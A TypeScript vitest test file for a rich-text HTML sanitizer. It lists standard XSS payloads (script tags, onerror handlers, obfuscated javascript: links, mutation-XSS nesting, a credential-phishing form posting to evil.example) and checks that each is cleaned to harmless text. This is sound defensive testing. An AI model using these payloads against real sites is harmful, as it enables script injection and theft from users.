import { expect, test } from 'vitest';
import { isSafeAddress, plainText, type RichNode, readRich, richElements } from '#shared/content/rich-text.ts';
import { cleanRich } from './clean-rich.ts';

/** What has been tried on other editors, and what a page must make of it: harmless text, or nothing. */
const hostile: [payload: string, cleaned: string][] = [
  ['<script>alert(1)</script>Wasser', 'Wasser'],
  ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', ''],
  ['<img src=x onerror=alert(1)>', ''],
  ['<p onclick="alert(1)">Tee</p>', '<p>Tee</p>'],
  ['<p style="position:fixed;inset:0">Tee</p>', '<p>Tee</p>'],
  ['<p class="help" id="main">Tee</p>', '<p>Tee</p>'],
  ['<svg onload=alert(1)><text>Tee</text></svg>', 'Tee'],
  ['<svg><style><img src=x onerror=alert(1)></style></svg>Tee', 'Tee'],
  ['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', ''],
  ['<iframe src="javascript:alert(1)">Tee</iframe>', 'Tee'],
  ['<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', ''],
  ['<object data="data:text/html,x">Tee</object><embed src="x">', 'Tee'],
  ['<form action="//evil.example"><input name="code"><button>Code?</button></form>', 'Code?'],
  ['<base href="//evil.example/"><p>Tee</p>', '<p>Tee</p>'],
  ['<meta http-equiv="refresh" content="0;url=//evil.example"><p>Tee</p>', '<p>Tee</p>'],
  ['<link rel="stylesheet" href="//evil.example/x.css"><p>Tee</p>', '<p>Tee</p>'],
  ['<style>*{display:none}</style><p>Tee</p>', '<p>Tee</p>'],
  ['<a href="javascript:alert(1)">Tee</a>', '<a>Tee</a>'],
  ['<a href="JaVaScRiPt:alert(1)">Tee</a>', '<a>Tee</a>'],
  ['<a href="java\tscript:alert(1)">Tee</a>', '<a>Tee</a>'],
  ['<a href="&#106;avascript&colon;alert(1)">Tee</a>', '<a>Tee</a>'],
  ['<a href=" \u0001javascript:alert(1)">Tee</a>', '<a>Tee</a>'],
  ['<a href="data:text/html;base64,PHNjcmlwdD4=">Tee</a>', '<a>Tee</a>'],
  ['<a href="vbscript:x">Tee</a>', '<a>Tee</a>'],
  ['<a href="//evil.example">Tee</a>', '<a>Tee</a>'],
  ['<a href="/staff/de">Tee</a>', '<a>Tee</a>'],
  ['<a href="https://haus.example" target="_top" onmouseover="x()">Tee</a>', '<a href="https://haus.example">Tee</a>'],
  ['<p>Tee<!-- <script>alert(1)</script> --></p>', '<p>Tee</p>'],
  ['<p>Tee<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p>', '<p>Tee</p>'],
  ['<template><script>alert(1)</script></template><p>Tee</p>', '<p>Tee</p>'],
  ['<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>'],
  ['<<script>script>alert(1)<</script>/script>', '&lt;/script&gt;'],
  ['<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>', ''],
  ['<p>&nbsp;</p><p><br></p>', ''],
];

test.each(hostile)('%s becomes %s', (payload, cleaned) => {
  const made = cleanRich(payload);
  if (cleaned === '') expect(made).toBe('');
  else expect(plainText(made)).toBe(plainText(cleaned));
  expect(made).not.toMatch(/<(?!\/?(?:p|h2|h3|ul|ol|li|strong|em|a|br|blockquote)\b)/);
  expect(made).not.toMatch(/<[^>]*\s(?!href="(?:https?:|mailto:|tel:))[a-z-]+=/i);
  expect(cleanRich(made)).toBe(made);
});

/** Every element that a text would be drawn as, and every address that it would lead to. */
function drawn(nodes: readonly RichNode[]): string[] {
  return nodes.flatMap((node) =>
    typeof node === 'string' ? [] : [node.name, ...(node.href ? [node.href] : []), ...drawn(node.children)],
  );
}

test.each(hostile)('drawn without having been cleaned, %s is none of ours either', (payload) => {
  for (const made of drawn(readRich(payload)))
    expect([made, richElements.some((one) => one === made) || isSafeAddress(made)]).toEqual([made, true]);
});

test('what an editor makes stays as it is, to the letter', () => {
  const text =
    '<h2>Besuch</h2><p>Von <strong>14</strong> bis <em>20</em> Uhr &amp; nach Absprache.<br>Bitte leise.</p>' +
    '<ul><li><p>zwei Personen</p></li></ul><ol><li>eins</li></ol><blockquote><p>Danke</p></blockquote>' +
    '<p><a href="tel:+4930123">Anrufen</a> <a href="https://haus.example/?a=1&amp;b=2">lesen</a></p>';
  expect(cleanRich(text)).toBe(text);
  expect(plainText(text)).toContain('20 Uhr & nach Absprache.');
  const link = { name: 'a', href: 'https://haus.example/?a=1&b=2', children: ['lesen'] };
  expect(readRich(text).at(-1)).toMatchObject({ name: 'p', children: [{ href: 'tel:+4930123' }, ' ', link] });
});

test('text of any depth and length is read without end', () => {
  const deep = `${'<p>'.repeat(500)}Tee${'</p>'.repeat(500)}`;
  expect(plainText(cleanRich(deep))).toBe('Tee');
  expect(plainText('<'.repeat(10_000))).toBe('<'.repeat(10_000));
  expect(readRich(`<a ${'"'.repeat(10_001)}`).length).toBeGreaterThan(0);
});
